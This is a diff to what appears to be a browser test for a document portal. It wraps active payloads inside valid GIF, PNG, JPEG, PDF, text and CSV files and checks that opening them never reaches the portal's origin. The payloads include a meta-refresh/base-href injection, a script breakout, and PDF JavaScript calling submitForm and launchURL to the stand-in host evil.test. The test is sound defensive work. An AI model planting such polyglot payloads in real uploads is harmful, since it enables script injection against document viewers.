@@ -1,4 +1,5 @@
 /** Files made to run something: whatever is in them, the portal's own origin is never reached. */
+import sharp from 'sharp';
 import { pdfOf } from '#test/paged-pdf.ts';
 import { expect, test } from '../test.ts';
 import { sendFile } from '../pages/documents.ts';
@@ -13,31 +14,30 @@ const PAYLOADS: Record<string, string> = {
   refresh: `<meta http-equiv="refresh" content="0;url=/reached"><base href="//evil.test/"><form action="/reached"><button autofocus>`,
   script: `*/=1;${REACH};/*`,
 };
-const bytes = (text: string, pad = 0) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(pad)]);
-/** Heads by which each is accepted as what its name says. */
+const bytes = (text: string) => Buffer.from(text, 'latin1');
+/** Whole files of their kind, so that they are taken, with the payload where each keeps remarks. */
+const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
+const picture = sharp({ create: { width: 8, height: 8, channels: 3, background: '#b34' } });
+const PNG = await picture.clone().png().toBuffer();
+const JPEG = await picture.clone().jpeg().toBuffer();
 const CONTAINERS: Record<string, (payload: string) => Buffer> = {
-  'a.pdf': (payload) => bytes(`%PDF-1.7\n${payload}\n%%EOF`),
-  'a.gif': (payload) => Buffer.concat([bytes('GIF89a/*'), bytes(payload)]),
-  'a.png': (payload) =>
-    Buffer.concat([
-      Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
-      bytes(payload),
-    ]),
+  'a.pdf': (payload) => Buffer.concat([Buffer.from(pdfOf({ pages: [['Page']] })), bytes(`\n${payload}`)]),
+  'b.pdf': (payload) =>
+    Buffer.from(
+      pdfOf({ pages: [['Page']], catalog: `/Remark(${payload.replaceAll(/[()\\]/g, String.raw`\$&`)})` }),
+    ),
+  'a.gif': (payload) => Buffer.concat([GIF, bytes(payload)]),
+  'a.png': (payload) => Buffer.concat([PNG, bytes(payload)]),
   'a.jpg': (payload) =>
     Buffer.concat([
-      Buffer.from('ffd8fffe', 'hex'),
+      JPEG.subarray(0, 2),
+      Buffer.from('fffe', 'hex'),
       Buffer.from([(payload.length + 2) >> 8, (payload.length + 2) & 255]),
       bytes(payload),
-      Buffer.from('ffc0000b080001000101011100ffd9', 'hex'),
+      JPEG.subarray(2),
     ]),
-  'a.bmp': (payload) => {
-    const head = Buffer.alloc(54);
-    head.write('BM', 0, 'latin1');
-    head.writeUInt32LE(40, 14);
-    head.writeInt32LE(1, 18);
-    head.writeInt32LE(1, 22);
-    return Buffer.concat([head, bytes(payload)]);
-  },
+  'a.txt': (payload) => bytes(payload),
+  'a.csv': (payload) => bytes(`Name,Amount\n${payload.replaceAll(',', ';')},1`),
 };
 const js = `this.submitForm('https://evil.test/reached');app.alert('reached');app.launchURL('https://evil.test/reached',true)`;
 /** PDFs that act when they are opened, or when something in them is pressed. */
@@ -59,7 +59,7 @@ const SHOW_IN_PAGE = `for (const kind of ['img', 'iframe']) {
   document.body.append(element);
 }`;
 
-test('thirty active files are opened by their links and in the viewer, and reach nothing', async ({
+test('forty active files are opened by their links and in the viewer, and reach nothing', async ({
   page,
   firm,
 }) => {
@@ -95,7 +95,7 @@ test('thirty active files are opened by their links and in the viewer, and reach
       id: await sendFile(firm.call, put, { companyId, name, bytes: pdfOf({ pages: [[name]], catalog }) }),
       name,
     });
-  expect(taken.length).toBeGreaterThanOrEqual(30);
+  expect(taken.length).toBeGreaterThanOrEqual(40);
 
   const tab = await page.context().newPage();
   for (const { id } of taken) {
